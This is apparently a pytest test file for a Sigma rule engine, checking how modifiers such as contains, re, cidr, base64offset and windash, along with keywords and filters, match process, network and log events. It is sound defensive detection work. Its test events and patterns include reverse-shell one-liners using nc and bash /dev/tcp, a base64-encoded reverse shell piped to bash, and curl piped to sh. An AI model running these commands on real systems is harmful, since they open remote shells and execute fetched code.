"""Each Sigma value modifier, wildcards, keywords, null, and Sigma filters, on small rules
written to real files and run through the loader, translator, compiler and engine."""

from __future__ import annotations

import base64
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from sigma_event_spec import build_event
from vigil.rules.sigma import SigmaEngine, load_sigma_paths

PROC = {"category": "process_creation", "product": "linux"}
NET = {"category": "network_connection", "product": "linux"}


def write_rule(dir_: Path, detection: dict[str, Any], logsource: dict[str, str] = PROC,
               **extra: Any) -> str:
    """Write one rule file; returns its id."""
    rid = str(uuid.uuid4())
    doc = {"title": f"test {rid[:8]}", "id": rid, "status": "test", "logsource": logsource,
           "detection": detection, "level": "medium", **extra}
    (dir_ / f"{rid}.yml").write_text(yaml.safe_dump(doc, sort_keys=False))
    return rid


class RuleBox:
    """One rule in a temporary directory, loaded and ready to test events against."""

    def __init__(self, tmp_path: Path, detection: dict[str, Any],
                 logsource: dict[str, str] = PROC) -> None:
        self.rid = write_rule(tmp_path, detection, logsource)
        result = load_sigma_paths([tmp_path])
        assert not result.unsupported and not result.errors, (result.unsupported,
                                                                result.errors)
        self.engine = SigmaEngine(result.rules)

    def fires(self, **spec: Any) -> bool:
        return any(d.rule_id == self.rid for d in self.engine.on_event(build_event(spec)))


def box(tmp_path: Path, detection: dict[str, Any], logsource: dict[str, str] = PROC) -> RuleBox:
    return RuleBox(tmp_path, detection, logsource)


def test_default_matching_is_case_insensitive(tmp_path):
    b = box(tmp_path, {"sel": {"CommandLine|contains": "SeCrEt"}, "condition": "sel"})
    assert b.fires(exec="grep secret /etc/x")
    assert not b.fires(exec="grep public /etc/x")


def test_contains_startswith_endswith(tmp_path):
    b = box(tmp_path, {"a": {"CommandLine|startswith": "tar "},
                       "b": {"CommandLine|endswith": ".tgz"},
                       "c": {"CommandLine|contains": " -c"}, "condition": "a and b and c"})
    assert b.fires(exec="tar -czf /tmp/out.tgz")
    assert not b.fires(exec="tar -xzf /tmp/out.tgz")  # no " -c"
    assert not b.fires(exec="gtar -czf /tmp/out.tgz")  # does not start with "tar "
    assert not b.fires(exec="tar -czf /tmp/out.tgz.sig")


def test_all_links_values_with_and(tmp_path):
    b = box(tmp_path, {"sel": {"CommandLine|contains|all": ["curl", "| sh"]},
                       "condition": "sel"})
    assert b.fires(exec="sh -c 'curl -s http://x | sh'")
    assert not b.fires(exec="curl -s http://x")


def test_cased_is_case_sensitive(tmp_path):
    b = box(tmp_path, {"sel": {"CommandLine|cased|contains": "Secret"}, "condition": "sel"})
    assert b.fires(exec="grep Secret x")
    assert not b.fires(exec="grep secret x")


def test_re_searches_and_honours_the_i_flag(tmp_path):
    (tmp_path / "c").mkdir()
    b = box(tmp_path / "c", {"sel": {"CommandLine|re": r"-e\s+/bin/(ba)?sh"}, "condition": "sel"})
    assert b.fires(exec="nc -e /bin/bash 10.0.0.1 4444")  # found mid-string
    assert not b.fires(exec="nc -E /BIN/SH 10.0.0.1 4444")  # re is case-sensitive
    (tmp_path / "i").mkdir()
    bi = box(tmp_path / "i", {"sel": {"CommandLine|re|i": r"-e\s+/bin/(ba)?sh"},
                              "condition": "sel"})
    assert bi.fires(exec="nc -E /BIN/SH 10.0.0.1 4444")


def test_cidr_on_destination_ip(tmp_path):
    b = box(tmp_path, {"sel": {"DestinationIp|cidr": ["203.0.113.0/24", "2001:db8::/32"]},
                       "condition": "sel"}, NET)
    assert b.fires(connect="203.0.113.77:443")
    assert b.fires(connect="[2001:db8::5]:443")
    assert not b.fires(connect="198.51.100.1:443")


def test_exists_true_and_false(tmp_path):
    (tmp_path / "t").mkdir()
    (tmp_path / "f").mkdir()
    yes = box(tmp_path / "t", {"sel": {"ParentCommandLine|exists": True}, "condition": "sel"})
    no = box(tmp_path / "f", {"sel": {"ParentCommandLine|exists": False}, "condition": "sel"})
    with_parent = {"exec": "id", "parent": {"exec": "bash"}}
    assert yes.fires(**with_parent) and not no.fires(**with_parent)
    assert no.fires(exec="id") and not yes.fires(exec="id")


@pytest.mark.parametrize("mod,value,hit,miss", [
    ("gt", 999, 1000, 999), ("gte", 1000, 1000, 999), ("lt", 1000, 999, 1000),
    ("lte", 999, 999, 1000), ("neq", 0, 1000, 0)])
def test_numeric_comparisons(tmp_path, mod, value, hit, miss):
    b = box(tmp_path, {"sel": {f"LogonId|{mod}": value}, "condition": "sel"})
    assert b.fires(exec="id", loginuid=hit)
    assert not b.fires(exec="id", loginuid=miss)


def test_base64_and_base64offset(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    plain = box(tmp_path / "a", {"sel": {"CommandLine|base64|contains": "/bin/sh -i"},
                                 "condition": "sel"})
    enc = base64.b64encode(b"/bin/sh -i").decode()
    assert plain.fires(exec=f"sh -c 'echo {enc} | base64 -d | sh'")
    assert not plain.fires(exec="sh -c 'echo /bin/sh -i'")
    offset = box(tmp_path / "b", {"sel": {"CommandLine|base64offset|contains": "/bin/sh -i"},
                                  "condition": "sel"})
    # the value at offset 1 inside a longer encoded blob
    blob = base64.b64encode(b"x/bin/sh -i >& /dev/tcp/1.2.3.4/9 0>&1").decode()
    assert offset.fires(exec=f"bash -c 'echo {blob}|base64 -d|bash'")
    assert not offset.fires(exec="bash -c 'echo aGVsbG8gd29ybGQ=|base64 -d'")


def test_windash_expands_dash_variants(tmp_path):
    b = box(tmp_path, {"sel": {"CommandLine|windash|contains": " -exec "}, "condition": "sel"})
    assert b.fires(exec="find . -exec id ;")
    assert b.fires(exec="find . /exec id ;")
    assert not b.fires(exec="find . -name x")


def test_fieldref_compares_two_fields(tmp_path):
    b = box(tmp_path, {"sel": {"ParentImage|fieldref": "Image"}, "condition": "sel"})
    assert b.fires(exec="bash -c id", exepath="/usr/bin/bash",
                   parent={"exec": "bash", "exepath": "/usr/bin/bash"})
    assert not b.fires(exec="bash -c id", exepath="/usr/bin/bash",
                       parent={"exec": "sshd", "exepath": "/usr/sbin/sshd"})


def test_wildcards_in_plain_values(tmp_path):
    b = box(tmp_path, {"a": {"Image": "/usr/bin/python3*"},
                       "b": {"CommandLine": "sh -c ?d"}, "condition": "a or b"})
    assert b.fires(exec="python3 x.py", exepath="/usr/bin/python3.11")
    assert not b.fires(exec="python2 x.py", exepath="/usr/bin/python2.7")
    assert b.fires(exec="sh -c id", exepath="/usr/bin/dash")
    assert not b.fires(exec="sh -c idx", exepath="/usr/bin/dash")


def test_null_matches_a_missing_field(tmp_path):
    b = box(tmp_path, {"sel": {"Image|endswith": "/id", "ParentCommandLine": None},
                       "condition": "sel"})
    assert b.fires(exec="id")
    assert not b.fires(exec="id", parent={"exec": "bash"})


def test_keywords_search_the_event_text(tmp_path):
    b = box(tmp_path, {"keywords": ["bash -i >& /dev/tcp/", "Accepted*for root"],
                       "condition": "keywords"}, {"product": "linux"})
    assert b.fires(exec="bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")
    assert b.fires(log="sshd[7]: Accepted password for root from 10.0.0.1", program="sshd")
    assert not b.fires(log="sshd[7]: Failed password for root from 10.0.0.1", program="sshd")
    assert not b.fires(write="/tmp/bash -i >& /dev/tcp/")  # file events have no text


def test_service_rules_only_see_their_program(tmp_path):
    b = box(tmp_path, {"keywords": ["REPLACE"], "condition": "keywords"},
            {"product": "linux", "service": "cron"})
    assert b.fires(log="crontab[9]: (root) REPLACE (root)", program="crontab")
    assert not b.fires(log="sshd[9]: REPLACE", program="sshd")
    assert not b.fires(exec="echo REPLACE")


def test_sigma_filter_suppresses_without_editing_the_rule(tmp_path):
    rid = write_rule(tmp_path, {"sel": {"Image|endswith": "/curl"}, "condition": "sel"})
    flt = {"title": "our backup job uses curl", "id": str(uuid.uuid4()),
           "logsource": PROC,
           "filter": {"rules": [rid], "selection": {"CommandLine|contains": "backup.example"},
                      "condition": "not selection"}}
    (tmp_path / "filters.yml").write_text(yaml.safe_dump(flt))
    result = load_sigma_paths([tmp_path])
    assert not result.errors and not result.unsupported
    engine = SigmaEngine(result.rules)

    def fires(cmd: str) -> bool:
        ev = build_event({"exec": cmd, "exepath": "/usr/bin/curl"})
        return any(d.rule_id == rid for d in engine.on_event(ev))

    assert fires("curl http://203.0.113.5/x")
    assert not fires("curl -T db.gz https://backup.example/upload")
